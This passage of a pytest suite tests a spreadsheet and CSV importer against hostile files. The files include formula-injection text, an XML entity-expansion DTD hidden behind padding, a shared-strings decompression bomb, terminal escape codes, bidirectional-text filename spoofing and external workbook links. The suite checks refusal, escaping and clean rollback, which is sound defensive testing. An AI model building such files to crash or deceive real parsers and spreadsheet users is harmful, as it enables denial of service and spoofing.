        b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>'))
    return rewrite_zip(src, tmp / "shared_bomb.xlsx", patch={part: sheet, "[Content_Types].xml": types,
                                                             "xl/_rels/workbook.xml.rels": rels},
                       add={"xl/sharedStrings.xml": strings})


def utf16_dtd_after_comment(tmp: Path) -> Path:
    """A UTF-16 sheet part whose DTD hides behind 60 KB of comment (the byte search for `<!DOCTYPE` missed it and
    the sheet was read as empty)."""
    def inject(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        dtd = LAUGHS.partition(b"\n")[2]
        text = ('<?xml version="1.0" encoding="UTF-16"?>\n<!--' + " padding " * 6_700 + "-->\n"
                + dtd.decode() + xml.replace(b"<t>FI-091</t>", b"<t>&lol9;</t>", 1).decode())
        return text.encode("utf-16")
    return patched_xlsx(inject, "utf16_dtd.xlsx")(tmp)


def cell_at_last_grid_cell(xml: bytes) -> bytes:
    """One more value in the very last cell of the grid, XFD1048576, under a dimension that does not say so."""
    return xml.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>')


def unpacked_part_over_limit(tmp: Path) -> Path:
    return rewrite_zip(valid_xlsx(tmp, "src.xlsx"), tmp / "big_part.xlsx",
                       add={"xl/media/image1.png": random.Random(5).randbytes(3 * 2**20 // 2)})


def external_link(tmp: Path) -> Path:
    """A workbook whose cells take values from another workbook: Excel keeps the link in xl/externalLinks/ and
    the values cached at the last save, which were imported without a word."""
    src = valid_xlsx(tmp, "src.xlsx")
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships" r:id="rId1"><sheetNames><sheetName val="Data"/></sheetNames>'
            b'<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>8000000</v></cell></row></sheetData>'
            b'</sheetDataSet></externalBook></externalLink>')
    link_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
                 b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                 b'openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                 b'Target="file:///\\\\fileserver\\share\\population.xlsx" TargetMode="External"/></Relationships>')
    return rewrite_zip(src, tmp / "linked.xlsx", add={"xl/externalLinks/externalLink1.xml": link,
                                                      "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels})


HOSTILE_CASES = [
    # -- formula injection: text that a spreadsheet would run is stored as text (and escaped on export)
    Case("formula_text_in_text_cell", text_cells_xlsx("bottlenecks", bn(title_en=FORMULA_TEXTS[0])), "applied",
         check=check_title(FORMULA_TEXTS[0])),
    Case("formula_text_dde_in_csv", csv_of("bottlenecks", bn(title_en=FORMULA_TEXTS[1])), "applied",
         check=check_title(FORMULA_TEXTS[1])),
    Case("formula_text_minus_in_csv", csv_of("bottlenecks", bn(title_en=FORMULA_TEXTS[2])), "applied",
         check=check_title(FORMULA_TEXTS[2])),
    Case("formula_text_in_number_column", text_cells_xlsx("observations", obs(value="=1+2")), "invalid",
         rule="not_a_number", cell="observations!D2"),
    Case("formula_text_in_code", csv_of("bottlenecks", bn(code="=BN-003")), "invalid", rule="bad_text",
         cell="bottlenecks!A2"),
    # -- very long strings
    Case("text_longer_than_an_excel_cell", csv_of("bottlenecks", bn(description_en=LONG_TEXT)), "invalid",
         rule="bad_text", cell="bottlenecks!F2", contains="at most 4,000", hostile=True),
    Case("code_too_long", xlsx_of("bottlenecks", bn(code="BN-" + "9" * 40)), "invalid", rule="bad_text",
         cell="bottlenecks!A2"),
    Case("one_megabyte_csv_cell", csv_of("observations", obs(note="x" * 1_000_000)), "invalid", rule="bad_text",
         cell="observations!H2", contains="at most 1,000", hostile=True),
    Case("long_text_at_the_limit", xlsx_of("bottlenecks", bn(title_en="ä" * 300)), "applied",
         check=check_title("ä" * 300)),
    # -- control characters and direction marks
    Case("c1_control_character", csv_of("bottlenecks", bn(title_en="Ferry\x9b31mqueue")), "invalid",
         rule="bad_text", cell="bottlenecks!C2", contains="control characters"),
    Case("terminal_escape_sequence", csv_of("bottlenecks", bn(title_en="Ferry \x1b[31mred\x1b[0m")), "invalid",
         rule="bad_text", cell="bottlenecks!C2"),
    Case("vertical_tab", csv_of("bottlenecks", bn(title_fi="Lautta\x0bjono")), "invalid", rule="bad_text",
         cell="bottlenecks!D2"),
    Case("nul_inside_an_xlsx_text", patched_xlsx(lambda xml: xml.replace(b"<t>FI-091</t>", b"<t>FI-&#x0;091</t>", 1),
                                                 "nul.xlsx"),
         "refused", reason="unreadable", hostile=True),
    Case("right_to_left_mark", xlsx_of("bottlenecks", bn(title_en="Invoice\u200f.pdf")), "invalid",
         rule="bad_text", cell="bottlenecks!C2", contains="direction marks"),
    Case("left_to_right_mark_in_name", xlsx_of("bottlenecks", bn(owner_fi="Vero\u200e")), "invalid",
         rule="bad_text", cell="bottlenecks!P2"),
    Case("arabic_letter_mark", xlsx_of("bottlenecks", bn(title_et="x\u061cy")), "invalid", rule="bad_text",
         cell="bottlenecks!E2"),
    Case("right_to_left_isolate", csv_of("bottlenecks", bn(title_en="abc\u2067fdp.exe\u2069")), "invalid",
         rule="bad_text", cell="bottlenecks!C2"),
    Case("right_to_left_script_is_text", xlsx_of("bottlenecks", bn(title_en=RTL_TEXT)), "applied",
         check=check_title(RTL_TEXT)),
    # -- emoji
    Case("emoji_sequences_round_trip", xlsx_of("bottleneck_events", dict(
        bottleneck="BN-002", date=dt.date(2024, 5, 1), seq=7, status="analysed", note=EMOJI_TEXT, who="Tiina 🙂")),
         "applied", check=check_event_text({"note": EMOJI_TEXT, "who": "Tiina 🙂"})),
    Case("emoji_in_code", xlsx_of("bottlenecks", bn(code="BN-🚢")), "invalid", rule="bad_text",
         cell="bottlenecks!A2"),
    Case("emoji_in_csv_without_bom", csv_of("bottlenecks", bn(title_en="Lautta ⛴️ äöõüšž")), "applied",
         check=check_title("Lautta ⛴️ äöõüšž")),
    # -- dates before 1900 and around Excel's serial 60
    Case("date_cell_before_1900", xlsx_of("bottlenecks", bn(identified_on=dt.date(1899, 12, 30))), "invalid",
         rule="bad_date", cell="bottlenecks!S2", contains="1900-01-01"),
    Case("datetime_cell_1800", xlsx_of("bottlenecks", bn(identified_on=dt.datetime(1800, 1, 1, 12, 0))),
         "invalid", rule="bad_date", cell="bottlenecks!S2"),
    Case("date_serial_0", xlsx_of("bottlenecks", bn(identified_on=0)), "invalid", rule="bad_date",
         cell="bottlenecks!S2"),
    Case("date_serial_negative", xlsx_of("bottlenecks", bn(identified_on=-30)), "invalid", rule="bad_date",
         cell="bottlenecks!S2"),
    Case("date_serial_1", xlsx_of("bottlenecks", bn(identified_on=1)), "applied",
         check=check_identified_on(dt.date(1900, 1, 1))),
    Case("date_serial_59", xlsx_of("bottlenecks", bn(identified_on=59)), "applied",
         check=check_identified_on(dt.date(1900, 2, 28))),
    Case("date_serial_61", xlsx_of("bottlenecks", bn(identified_on=61)), "applied",
         check=check_identified_on(dt.date(1900, 3, 1))),
    Case("date_serial_45382", xlsx_of("bottlenecks", bn(identified_on=45382)), "applied",
         check=check_identified_on(dt.date(2024, 3, 31))),
    Case("date_cell_1900_02_28", xlsx_of("bottlenecks", bn(identified_on=dt.date(1900, 2, 28))), "applied",
         check=check_identified_on(dt.date(1900, 2, 28))),
    Case("date_system_1904", with_epoch_1904("bottlenecks", bn(identified_on=dt.date(2024, 3, 31))), "applied",
         check=check_identified_on(dt.date(2024, 3, 31))),
    # -- merged cells
    Case("merged_title_row_above_header", merged([["Bottlenecks 2024"], header("bottlenecks"),
                                                  row("bottlenecks", **bn())], ["A1:F1"], "bottlenecks"),
         "invalid", rule="missing_column", cell="bottlenecks!1:1", contains="(row 1)"),
    Case("merged_header_cells", merged([header("observations")[:4] + [None], row("observations", **obs())[:4]],
                                       ["D1:E1"]),
         "applied", check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    Case("merged_key_cells_in_body", merged([header("observations")[:4], row("observations", **obs())[:4],
                                             row("observations", **obs(period="2024", value=1.0))[:4]],
                                            ["A2:A3"]),
         "invalid", rule="required", cell="observations!A3"),
    # -- hidden sheets
    Case("very_hidden_data_sheet", lambda tmp: _very_hidden(tmp), "applied", rule="hidden_sheet",
         cell="observations!A1", check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    # -- absurd sizes
    Case("thousand_sheets", thousand_sheets, "refused", reason="too_many_sheets", hostile=True),
    # The limit is in cells: the whole width of the grid is refused when its cells are too many.
    Case("all_16384_columns", full_width_sheet, "refused", reason="too_many_cells", hostile=True,
         limits={"MAX_CELLS": 20_000}),
    Case("all_16384_columns_undeclared", full_width_sheet_no_dimension, "refused", reason="too_many_cells",
         hostile=True, limits={"MAX_CELLS": 20_000}),
    # -- parsing bounded everywhere: one linear pass over the XML, limits on what a sheet expands to
    Case("cells_closing_with_space", spaced_cell_ends, "invalid", rule="formula_without_value",
         cell="observations!D2", hostile=True),
    Case("shared_string_bomb", shared_string_bomb, "refused", reason="too_large_unpacked", hostile=True),
    Case("utf16_sheet_dtd_after_comment", utf16_dtd_after_comment, "refused", reason="xml_entities", hostile=True),
    Case("value_in_cell_xfd1048576", patched_xlsx(cell_at_last_grid_cell, "xfd1048576.xlsx"), "refused",
         reason="too_many_cells", hostile=True),
    Case("external_links", external_link, "refused", reason="external_links"),
    Case("unpacked_part_over_limit", unpacked_part_over_limit, "refused", reason="too_large_unpacked",
         limits={"MAX_PART_BYTES": 2**20}),
]


def _very_hidden(tmp: Path) -> Path:
    path = write_xlsx(tmp / "src.xlsx", {"README": [["Fill the observations sheet"]],
                                         "observations": table_rows("observations", [obs()])})
    wb = openpyxl.load_workbook(path)
    wb["observations"].sheet_state = "veryHidden"
    wb.save(tmp / "very_hidden.xlsx")
    return tmp / "very_hidden.xlsx"


CASES += HOSTILE_CASES

assert len({c.id for c in CASES}) == len(CASES)


def describe(report: ImportReport) -> str:
    lines = [f"status={report.status} reason={report.refusal_reason!r} message={report.message!r}"]
    lines += [f"  {p.severity} {p.rule} {p.cell} value={p.value!r} expected={p.expected!r}" for p in report.problems]
    return "\n".join(lines)


PARAMS = [pytest.param(c, id=c.id, marks=[pytest.mark.xfail(reason="BUG: " + c.bug, strict=True)] if c.bug else [])
          for c in CASES]


@pytest.mark.parametrize("case", PARAMS)
def test_bad_file(case: Case, store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in case.limits.items():
        monkeypatch.setattr(filecheck, name, value)
    files = tmp_path / "files"
    files.mkdir()
    path = case.build(files)
    before = snapshot(store)
    before_counts = counts(store)
    imports_before = store.scalar("SELECT count(*) FROM imports")

    started = time.monotonic()
    report = import_file(store, path, user="tester", encoding=case.encoding)
    elapsed = time.monotonic() - started

    assert report.status == case.status, describe(report)
    if case.status == "refused":
        assert report.refusal_reason == case.reason, describe(report)
        assert path.name in report.message
        assert report.problems == []
        # The uploader reads why in their language: the same refusal, worded in every interface language.
        texts = {lang: report.refusal_in(lang) for lang in LANGUAGES}
        assert texts["en"] == report.message
        assert all(path.name in text and "{" not in text for text in texts.values()), texts
        assert len(set(texts.values())) == len(LANGUAGES), texts
    if case.rule:
        severity = "warning" if case.status == "applied" else "error"
        found = [p for p in report.problems if p.rule == case.rule and p.cell == case.cell]
        assert found, f"no {case.rule} at {case.cell!r}\n" + describe(report)
        problem = found[0]
        assert problem.severity == severity
        assert problem.expected.strip()
        if case.contains:
            assert case.contains in problem.expected, describe(report)
    if case.status == "applied":
        assert report.error_count == 0
        assert report.import_id is not None
        assert store.scalar("SELECT count(*) FROM imports") == imports_before + 1
        if case.check:
            case.check(store, report)
    else:
        assert report.error_count >= (1 if case.status == "invalid" else 0)
        assert report.import_id is None
        # Nothing half-written: every table, its row images and the import list are exactly as before.
        assert counts(store) == before_counts
        assert snapshot(store) == before
    if case.hostile:
        assert elapsed < HOSTILE_SECONDS, f"{case.id} took {elapsed:.1f} s"
        assert os.getpid() > 0  # still here: the parser ran in a child process
    # Every attempt is in the audit log, refused ones included.
    outcome = store.query("SELECT outcome, detail FROM audit_log ORDER BY id DESC LIMIT 1")[0]
    assert outcome[0] == report.status
    assert path.name in outcome[1]


def test_windows_1252_csv_accepted_when_encoding_named(store: Store, tmp_path: Path) -> None:
    note = "Hämeenlinna – 5 € ‘quoted’"
    path = write_bytes(tmp_path / "observations.csv",
                       csv_bytes(table_rows("observations", [obs(note=note)]), encoding="cp1252", delimiter=";"))
    refused = import_file(store, path)
    assert (refused.status, refused.refusal_reason) == ("refused", "encoding")
    assert "observations.csv" in refused.message
    report = import_file(store, path, encoding="windows-1252")
    assert report.status == "applied", describe(report)
    assert store.query("SELECT note, value FROM observations WHERE period = '2023'") == [(note, 8_000_000.0)]


def test_wrong_encoding_named_is_refused(store: Store, tmp_path: Path) -> None:
    path = write_bytes(tmp_path / "observations.csv", csv_bytes(table_rows("observations", [obs()])))
    report = import_file(store, path, encoding="no-such-codec")
    assert (report.status, report.refusal_reason) == ("refused", "encoding")


def test_refusal_message_uses_display_name(store: Store, tmp_path: Path) -> None:
    path = write_bytes(tmp_path / "upload-3f9a.bin", b"%PDF-1.4\n")
    report = import_file(store, path, display_name="Budget 2024.xlsx")
    assert report.status == "refused"
    assert report.refusal_reason == "pdf"
    assert "Budget 2024.xlsx" in report.message


def test_all_problems_collected_before_anything_is_written(store: Store, tmp_path: Path) -> None:
    """One file, many mistakes across sheets: every one is listed with its own cell, nothing is written."""
    path = write_xlsx(tmp_path / "many.xlsx", {
        "observations": table_rows("observations", [
            obs(), obs(period="2024", value="x"), obs(period="2019-13"), obs(area="XX", period="2025"),
        ]),
        "bottlenecks": table_rows("bottlenecks", [bn(severity=9), bn(code="BN-004", identified_on="tomorrow")]),
    })
    before = snapshot(store)
    report = import_file(store, path)
    assert report.status == "invalid"
    found = {(p.rule, p.cell) for p in report.problems}
    assert {("not_a_number", "observations!D3"), ("bad_period", "observations!C4"),
            ("unknown_code", "observations!B5"), ("out_of_range", "bottlenecks!L2"),
            ("bad_date", "bottlenecks!S3")} <= found
    assert report.error_count == len([p for p in report.problems if p.severity == "error"])
    assert snapshot(store) == before


def test_formula_cell_detection_unit() -> None:
    from twinreg_data.ingest.readers.xlsx import _formula_cells_without_value

    xml = (b'<row r="2"><c r="A2"><f>1+2</f><v></v></c><c r="B2"><f>1+2</f><v>3</v></c>'
           b'<c r="C2"><f>1</f><v/></c><c r="D2" t="str"><f>""</f><v></v></c><c r="E2"><f>1</f></c>'
           b'<c r="F2" s="1"/><c r="G2"><v>4</v></c></row>')
    assert _formula_cells_without_value(xml) == ["A2", "C2", "E2"]


def test_sheet_part_helper(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "two.xlsx", {"areas": [["code"]], "observations": [["indicator"]]})
    assert sheet_part(path, "observations") == "xl/worksheets/sheet2.xml"


def test_duplicate_key_across_two_sheets_of_one_table(store: Store, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "two_sheets.xlsx", {
        "observations": table_rows("observations", [obs()]),
        "observations ": table_rows("observations", [obs(value=8_100_000)]),
    })
    before = snapshot(store)
    report = import_file(store, path)
    assert report.status == "invalid", describe(report)
    assert [p.rule for p in report.problems if p.severity == "error"] == ["duplicate"]
    assert snapshot(store) == before


def test_wide_duplicate_row_reported_in_its_row(store: Store, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "wide_dup.xlsx", {"observations": [
        ["indicator", "area", 2023, 2024],
        ["MOB_FERRY_PAX", "FI-091", 8_000_000, 8_200_000],
        ["MOB_FERRY_PAX", "EE-0784", 2_000_000, 2_100_000],
        ["MOB_FERRY_PAX", "FI-091", 8_000_001, 8_200_001],
        ["MOB_FERRY_PAX", "EE-0784", 2_000_001, 2_100_001],
    ]})
    report = import_file(store, path)
    assert report.status == "invalid"
    cells = sorted(p.cell for p in report.problems if p.rule == "duplicate")
    assert cells == ["observations!C4", "observations!C5", "observations!D4", "observations!D5"], describe(report)


def test_wide_duplicate_period_columns(store: Store, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "wide_cols.xlsx", {"observations": [
        ["indicator", "area", 2023, "2023"], ["MOB_FERRY_PAX", "FI-091", 1, 2]]})
    before = snapshot(store)
    report = import_file(store, path)
    assert report.status == "invalid"
    assert [(p.rule, p.cell) for p in report.problems] == [("duplicate", "observations!D1")]
    assert snapshot(store) == before


def test_header_below_blank_rows_and_right_of_blank_columns(store: Store, tmp_path: Path) -> None:
    """Cell references count from the sheet's real A1, wherever the table starts."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "observations"
    for j, name in enumerate(header("observations")):
        ws.cell(3, j + 2, name)
    for i, values in enumerate([row("observations", **obs()), row("observations", **obs(period="2024", value="x"))]):
        for j, value in enumerate(values):
            ws.cell(4 + i, j + 2, value)
    path = tmp_path / "offset.xlsx"
    wb.save(path)
    report = import_file(store, path)
    assert [(p.rule, p.cell) for p in report.problems] == [("not_a_number", "observations!E5")], describe(report)


# -- round trips: hostile text and every text field, import → database → export → import --------------


def test_hostile_text_round_trips_and_exports_escaped(store: Store, tmp_path: Path) -> None:
    """Formula-like, right-to-left, emoji and maximum-length text is stored exactly, leaves the app escaped in
    CSV/XLSX downloads, stays text in the template export, and that export imports back unchanged."""
    import io

    from factories import snapshot as full_snapshot

    from twinreg_data.exports import to_csv_bytes, to_xlsx_bytes
    from twinreg_data.ingest.template import export_workbook

    titles = [*FORMULA_TEXTS, RTL_TEXT, EMOJI_TEXT, "ä" * 300, "Ääkköset: äöõüšž ÄÖÕÜŠŽ"]
    rows = [bn(code=f"BN-{100 + i}", title_en=title) for i, title in enumerate(titles)]
    report = import_file(store, text_cells_xlsx("bottlenecks", *rows)(tmp_path), user="tester")
    assert report.status == "applied", describe(report)
    stored = store.query_df("SELECT code, title_en FROM bottlenecks WHERE code >= 'BN-100' ORDER BY code")
    assert stored["title_en"].tolist() == titles
    # Downloads: a cell that would run as a formula gets a leading apostrophe; the rest is unchanged.
    back = io.StringIO(to_csv_bytes(stored).decode("utf-8-sig"))
    import csv

    csv_titles = [r["title_en"] for r in csv.DictReader(back)]
    assert csv_titles == ["'" + t if t[0] in "=+-@" else t for t in titles]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(stored))).active
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
    assert [line[1] for line in sheet.iter_rows(min_row=2, values_only=True)] == csv_titles
    # The template export keeps the text as text cells (nothing Excel would run) …
    exported = export_workbook(store, tmp_path / "export.xlsx")
    cells = {c.value: c.data_type for line in openpyxl.load_workbook(exported)["bottlenecks"].iter_rows()
             for c in line if c.value in titles}
    assert set(cells) == set(titles) and set(cells.values()) == {"s"}
    # … and imports back as exactly what is stored.
    before = full_snapshot(store)
    again = import_file(store, exported, user="tester")
    assert again.status == "nothing_to_do", describe(again)
    assert full_snapshot(store) == before


def _estonian_everywhere(sheets: dict[str, list[list]]) -> dict[str, list[list]]:
    """Put äöõüšž (and their capitals) into every free-text cell of every table."""
    from twinreg_data.schema import TABLES_BY_NAME

    out = {}
    for name, table_rows_ in sheets.items():
        table = TABLES_BY_NAME[name]
        columns = table_rows_[0]
        rows = [table_rows_[0]]
        for values in table_rows_[1:]:
            values = list(values)
            for j, column in enumerate(columns):
                col = table.column(column)
                if col.kind != "text" or column in table.key or (col.pattern and column != "url"):
                    continue
                text = f"{values[j] or column} – äöõüšž ÄÖÕÜŠŽ"
                values[j] = (text if column != "url" else "https://example.fi/äöõüšž ÄÖÕÜŠŽ".replace(" ", "-"))[
                    :col.max_length]
            rows.append(values)
        out[name] = rows
    return out


def test_every_text_field_round_trips_with_estonian_letters(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from factories import base_sheets, extra_sheets, new_store

    from twinreg_data.ingest.template import export_workbook
    from twinreg_data.schema import TABLES

    monkeypatch.setenv("TWINREG_BACKUP_KEEP", "0")
    sheets = _estonian_everywhere({**base_sheets(), **extra_sheets()})
    first = new_store(tmp_path, "first.duckdb")
    report = import_file(first, write_xlsx(tmp_path / "letters.xlsx", sheets), user="tester")
    assert report.status == "applied", describe(report)
    text_columns = [(t.name, c.name) for t in TABLES for c in t.columns
                    if c.kind == "text" and c.name not in t.key and (not c.pattern or c.name == "url")]
    for table, column in text_columns:
        values = [r[0] for r in first.query(f'SELECT "{column}" FROM "{table}"')]
        assert values and all("äöõüšž" in v and "ÄÖÕÜŠŽ" in v for v in values), (table, column, values)
    exported = export_workbook(first, tmp_path / "export.xlsx")
    second = new_store(tmp_path, "second.duckdb")
    assert import_file(second, exported, user="tester").status == "applied"
    assert snapshot(second) == snapshot(first)  # every table, every column, byte for byte
    assert import_file(first, exported, user="tester").status == "nothing_to_do"
    first.close()
    second.close()


def test_external_links_are_refused_with_the_way_out(store: Store, tmp_path: Path) -> None:
    before = counts(store)
    report = import_file(store, external_link(tmp_path))
    assert (report.status, report.refusal_reason) == ("refused", "external_links"), describe(report)
    assert "other workbooks (external links)" in report.message and "Break Link" in report.message
    assert counts(store) == before


@pytest.mark.parametrize("encoding, named", [("utf-16", None), ("utf-16", "utf-16"), ("utf-16-le", None),
                                             ("utf-16-le", "utf-16"), ("utf-16-be", "UTF16")])
def test_excel_unicode_text_csv_is_read(store: Store, tmp_path: Path, encoding: str, named: str | None) -> None:
    """Excel's "Unicode text" is UTF-16 (with a byte-order mark, tab separated); without one too, with or
    without --encoding utf-16."""
    note = "Hämeenlinna – 5 € · Ingå · Tõnu"
    path = write_bytes(tmp_path / "observations.txt",
                       csv_bytes(table_rows("observations", [obs(note=note)]), encoding=encoding, delimiter="\t"))
    assert path.read_bytes().count(b"\x00") > 100  # really UTF-16
    report = import_file(store, path, encoding=named)
    assert report.status == "applied", describe(report)
    assert store.query("SELECT note, value FROM observations WHERE period = '2023'") == [(note, 8_000_000.0)]


def test_binary_with_nul_bytes_is_still_refused(store: Store, tmp_path: Path) -> None:
    path = write_bytes(tmp_path / "data.csv", bytes(range(256)) * 40)
    report = import_file(store, path)
    assert (report.status, report.refusal_reason) == ("refused", "binary")
